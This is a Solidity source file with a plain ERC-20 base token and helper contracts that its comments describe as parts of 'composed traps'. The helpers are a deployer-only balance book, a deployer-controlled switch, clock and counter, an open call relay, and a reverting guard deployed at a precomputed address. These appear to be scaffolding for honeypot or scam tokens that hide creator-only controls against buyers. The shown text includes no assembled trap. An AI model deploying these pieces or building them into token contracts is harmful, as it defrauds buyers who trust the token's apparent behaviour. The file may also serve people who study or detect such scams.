// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IBalances {
    function balanceOf(address account) external view returns (uint256);
    function totalSupply() external view returns (uint256);
}

interface IPool {
    function sync() external;
    function getReserves() external view returns (uint112, uint112, uint32);
    function token0() external view returns (address);
}

/// A plain ERC-20 that knows its pool, with a place for each door of a composed trap.
abstract contract Floor {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) internal _allowed;
    address internal immutable pair;
    address internal immutable weth;
    address internal immutable keeper;
    address internal immutable maker;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address pair_, address weth_, address keeper_, address maker_) {
        pair = pair_;
        weth = weth_;
        keeper = keeper_;
        maker = maker_;
        _open(maker_);
    }

    function _open(address to) internal {
        name = "Composed";
        symbol = "CMP";
        totalSupply = 1_000_000 ether;
        _held[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _held[account];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _allowed[holder][spender];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _deal(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _consume(from, value);
        _deal(from, to, value);
        return true;
    }

    function _consume(address from, uint256 value) internal virtual {
        uint256 left = _allowed[from][msg.sender];
        if (left == type(uint256).max) return;
        require(left >= value, "allowance");
        _allowed[from][msg.sender] = left - value;
    }

    function _deal(address from, address to, uint256 value) internal virtual {
        _put(from, to, value);
    }

    function _put(address from, address to, uint256 value) internal {
        require(_held[from] >= value, "balance");
        unchecked {
            _held[from] -= value;
            _held[to] += value;
        }
        emit Transfer(from, to, value);
    }

    /// One for yes: for traps that reckon instead of branching.
    function _bit(bool yes) internal pure returns (uint256 one) {
        assembly ("memory-safe") {
            one := yes
        }
    }
}

/// A floor that can also stand behind a proxy, whose storage it then fills once.
contract Behind is Floor {
    constructor(address pair_, address weth_, address keeper_, address maker_)
        Floor(pair_, weth_, keeper_, maker_)
    {}

    function found(address to) external {
        require(totalSupply == 0, "founded");
        _open(to);
    }
}

/// A list that another contract keeps. Whoever made it writes it.
contract Book {
    address private immutable _clerk = tx.origin;
    mapping(address => uint256) public balanceOf;

    function give(address to, uint256 value) external {
        require(tx.origin == _clerk, "clerk");
        balanceOf[to] = value;
    }
}

/// Answers what a trap asks it: a switch, a clock, a count of its own.
contract Witness {
    address private immutable _clerk = tx.origin;
    uint256 private immutable _born = block.timestamp;
    uint256 private _said;
    uint256 private _asked;

    function say(uint256 value) external {
        require(tx.origin == _clerk, "clerk");
        _said = value;
    }

    function said() external view returns (uint256) {
        return _said;
    }

    function age() external view returns (uint256) {
        return block.timestamp - _born;
    }

    function asked() external returns (uint256) {
        return ++_asked;
    }

    function young(uint256 seconds_) external view {
        require(block.timestamp <= _born + seconds_, "old");
    }
}

struct PoolKey {
    address currency0;
    address currency1;
    uint24 fee;
    int24 tickSpacing;
    address hooks;
}

struct SwapParams {
    bool zeroForOne;
    int256 amountSpecified;
    uint160 sqrtPriceLimitX96;
}

interface ITaker {
    function take(address currency, address to, uint256 amount) external;
}

/// Passes calls on for anybody, with whatever end the caller wants.
contract Courier {
    function carry(address to, bytes calldata data) external {
        (bool done, bytes memory answer) = to.call(data);
        if (!done) {
            assembly ("memory-safe") {
                revert(add(answer, 0x20), mload(answer))
            }
        }
    }
}

/// Refuses whatever it is asked.
contract Guard {
    fallback() external {
        revert("guarded");
    }
}

/// Makes a guard at an address that is known before.
contract Works {
    address private immutable _clerk = tx.origin;

    function place() public view returns (address) {
        bytes memory head = abi.encodePacked(bytes2(0xd694), address(this), bytes1(0x01));
        return address(uint160(uint256(keccak256(head))));
    }

    function make() external {
        require(tx.origin == _clerk, "clerk");
        new Guard();
    }
}
